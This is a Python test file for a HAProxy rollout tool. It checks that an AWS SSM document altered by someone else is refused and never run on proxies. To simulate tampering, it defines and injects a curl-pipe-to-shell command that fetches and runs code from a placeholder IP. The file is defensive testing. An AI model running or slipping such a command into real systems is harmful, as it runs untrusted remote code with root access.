"""Only the document that the function was shipped with is run, whoever has changed the one of the stack."""

import json
import logging
from collections.abc import Callable
from typing import Any

import pytest

from haproxy_sync.rollout.program import Program
from tests.contract.faults import Fault, calls, failing
from tests.contract.test_deploy import said, versions
from tests.contract.test_two_stacks import inspections
from tests.contract.world import World, another_program, document

SHIPPED_WITH = (
    "the document of the stack is not the one that this function was shipped with"
)
EVIL = "/usr/bin/curl http://203.0.113.1/ | sh"

type Content = dict[str, Any]


def submit(world: World, text: str) -> str:
    """Somebody calls UpdateDocument, who need not be a deploy; the new version."""
    answer = world.clients.ssm.update_document(
        Content=text, Name="apply", DocumentVersion="$LATEST"
    )
    version: str = answer["DocumentDescription"]["DocumentVersion"]
    return version


def tamper(world: World) -> str:
    """Another script in the document, which takes the same program and all parameters."""
    content = document(world.program)
    content["mainSteps"][-1]["inputs"]["runCommand"] = [EVIL]
    return submit(world, json.dumps(content))


def is_well(world: World) -> bool:
    """Whether all proxies have what is published, as far as `status` knows."""
    answer = world.act("status")
    return bool(answer["converged"] and answer["document"]["refusal"] == "")


@pytest.mark.fault("F169")
def test_a_document_that_somebody_changed_is_never_run(
    running: World, caplog: pytest.LogCaptureFixture
) -> None:
    """Neither a rollout nor a comparison sends anything; answers and log say why, and it goes on once it is mended."""
    sent = len(running.service.commands)
    version = tamper(running)
    running.launch()
    for _ in range(12):
        assert running.sweep() == []
        running.act("verify")
        running.act("inspect")
        running.pass_time(60)
    assert len(running.service.commands) == sent
    status, why = (
        running.act("status"),
        f"{SHIPPED_WITH}: its version {version} differs",
    )
    assert status["health"] == "degraded"
    (told,) = [c for c in status["conditions"] if c["cause"] == "document-refuses"]
    assert told["what"].startswith(why)
    assert "mainSteps.2.inputs.runCommand.0" in told["what"]
    assert told["runbook"] == "docs/runbook.md#document-differs"
    assert status["document"]["refusal"] == told["what"]
    assert running.act("plan")["verdict"].startswith(f"waits: {why}")
    (line, *_) = said(caplog, "document-takes-no-command")
    assert (line.levelname, vars(line)["reason"]) == ("ERROR", told["what"])
    assert "who changed the document" in vars(line)["advice"]
    submit(running, json.dumps(document(running.program)))
    running.pass_time(61)
    running.settle(30)
    assert is_well(running)
    assert versions(running)[-1] == "3"


@pytest.mark.fault("F169")
def test_a_default_version_that_somebody_moved_is_not_run(running: World) -> None:
    """Commands name the newest version, and its hash."""
    version = tamper(running)
    submit(running, json.dumps(document(running.program)))
    running.clients.ssm.update_document_default_version(
        Name="apply", DocumentVersion=version
    )
    running.launch()
    running.sweep()
    running.settle()
    assert is_well(running)
    assert set(versions(running)) == {"1", "3"}


@pytest.mark.fault("F169")
def test_a_changed_document_asks_no_proxy_of_a_new_environment(fresh: World) -> None:
    """An inspection runs as root, too; since when it is so is kept over the looks."""
    tamper(fresh)
    began = fresh.now
    for _ in range(12):
        assert fresh.sweep() == []
        fresh.pass_time(60)
    assert fresh.service.commands == []
    status = fresh.act("status")
    assert status["document"]["refused_since"] == began
    assert status["document"]["refusal"].startswith(SHIPPED_WITH)
    assert status["health"] == "degraded"
    assert status["looked_at"] > began
    submit(fresh, json.dumps(document(fresh.program)))
    for _ in range(4):
        fresh.sweep()
        fresh.pass_time(60)
    assert inspections(fresh) == 2
    assert fresh.act("status")["document"] is None


@pytest.mark.fault("F170")
@pytest.mark.parametrize(
    "laid_out",
    [
        lambda content: json.dumps(content, indent=7),
        lambda content: json.dumps(content, sort_keys=True),
        lambda content: json.dumps(content | {"description": "a \\u00fc"}).replace(
            "a \\\\u00fc", "a \\u00fc"
        ),
    ],
    ids=["indented", "sorted", "escaped"],
)
def test_another_layout_is_the_same_document(
    running: World, laid_out: Callable[[Content], str]
) -> None:
    """Who lays it out differently changes nothing of what it says."""
    content = document(running.program)
    text = laid_out(content)
    check_is_run(running, text, json.dumps(json.loads(text)))


@pytest.mark.fault("F170")
def test_numbers_that_became_strings_are_the_same_document(running: World) -> None:
    """CloudFormation makes strings of them."""
    content = document(running.program)
    content["mainSteps"][-1]["inputs"]["timeoutSeconds"] = 180
    shipped = json.dumps(content)
    content["mainSteps"][-1]["inputs"]["timeoutSeconds"] = "180"
    check_is_run(running, json.dumps(content), shipped)


def check_is_run(world: World, text: str, shipped: str) -> None:
    """Submitted, that text is the document that proxies run, though the function brings the other one."""
    world.releases[world.program.sha256] = shipped
    version = submit(world, text)
    world.launch()
    world.sweep()
    world.settle()
    assert is_well(world)
    assert versions(world)[-1] == version


@pytest.mark.fault("F170")
@pytest.mark.parametrize("program", [None, another_program()], ids=["same", "another"])
@pytest.mark.parametrize("is_document_first", [True, False])
def test_of_a_deploy_one_half_waits_for_the_other(
    running: World,
    caplog: pytest.LogCaptureFixture,
    program: Program | None,
    is_document_first: bool,  # noqa: FBT001 # a column of the table
) -> None:
    """Whichever comes first, and whether the program is another one: a note, until both are there."""
    new = program or running.program
    old_text, new_text = (
        json.dumps(document(of) | {"description": f"{number}"})
        for number, of in enumerate((running.program, new))
    )
    submit(running, new_text if is_document_first else old_text)
    running.program, shipped_with = (
        (running.program, old_text) if is_document_first else (new, new_text)
    )
    running.releases[running.program.sha256] = shipped_with
    caplog.clear()
    sent = len(running.service.commands)
    running.launch()
    running.sweep()
    running.pass_time(20)
    assert len(running.service.commands) == sent
    status = running.act("status")
    (told,) = [c for c in status["conditions"] if c["cause"] == "document-refuses"]
    assert (told["health"], told["instances"]) == ("healthy", [])
    assert told["what"].endswith(", as during a deploy")
    assert {each.levelname for each in caplog.records} == {"INFO"}
    if is_document_first:
        running.program = new
        running.releases[new.sha256] = new_text
    else:
        submit(running, new_text)
    running.settle(90)
    assert is_well(running)
    assert {host.programs[-1] for host in running.proxies.values()} == {new.sha256}


@pytest.mark.fault("F171")
@pytest.mark.parametrize(
    "fault",
    [
        Fault(400, "AccessDeniedException"),
        Fault(400, "ThrottlingException"),
        Fault(500),
    ],
    ids=["denied", "throttled", "broken"],
)
def test_a_document_that_cannot_be_read_is_not_run(
    running: World, fault: Fault
) -> None:
    """The batch comes back, `status` has AWS's words, and all is done once it can be read."""
    submit(running, json.dumps(document(running.program), indent=3))
    sent = len(running.service.commands)
    running.launch()
    with failing(running.clients, "ssm.GetDocument", fault):
        assert running.sweep() == ["m-0"]
        status = running.act("status")
    assert len(running.service.commands) == sent
    assert status["look_failure"]["operation"] == "GetDocument"
    assert status["look_failure"]["code"] == fault.code
    running.sweep()
    running.settle()
    assert is_well(running)


@pytest.mark.fault("F171")
def test_a_document_that_cannot_be_read_keeps_nobody_from_looking(
    fresh: World,
) -> None:
    """Inspections wait."""
    fault = Fault(400, "AccessDeniedException")
    with failing(fresh.clients, "ssm.GetDocument", fault):
        assert fresh.sweep() == []
    assert fresh.service.commands == []
    assert fresh.act("status")["looked_at"]
    fresh.pass_time(60)
    fresh.sweep()
    fresh.pass_time(10)
    assert inspections(fresh) == 2


@pytest.mark.fault("F171")
@pytest.mark.parametrize("content", [None, "", "{", "[]"])
def test_an_answer_that_is_no_document_is_not_run(
    running: World, content: str | None
) -> None:
    """Whatever GetDocument answers."""
    running.update_document()
    sent = len(running.service.commands)

    def garbled(parsed: dict[str, Any], **_: Any) -> None:
        del parsed["Content"]
        if content is not None:
            parsed["Content"] = content

    events = running.clients.ssm.meta.events
    events.register("after-call.ssm.GetDocument", garbled)
    try:
        running.launch()
        assert running.sweep() == []
        running.pass_time(20)
    finally:
        events.unregister("after-call.ssm.GetDocument", garbled)
    assert len(running.service.commands) == sent
    assert running.act("status")["document"]["refusal"].startswith(SHIPPED_WITH)
    running.pass_time(61)
    running.settle()
    assert is_well(running)


@pytest.mark.fault("F171")
def test_a_version_is_read_once(running: World) -> None:
    """By each process: what a version says never changes."""
    with calls(running.clients) as made:
        for _ in range(4):
            running.pass_time(60)
            running.act("verify")
            running.settle()
        assert "ssm.GetDocument" not in made
        running.update_document()
        for _ in range(4):
            running.pass_time(60)
            running.act("verify")
            running.settle()
    assert made.count("ssm.GetDocument") == 1


def test_the_log_of_a_deploy_is_quiet(
    running: World, caplog: pytest.LogCaptureFixture
) -> None:
    """A refusal is no error before a deploy would have ended."""
    tamper(running)
    running.act("verify")
    running.pass_time(300)
    assert not [each for each in caplog.records if each.levelno >= logging.ERROR]
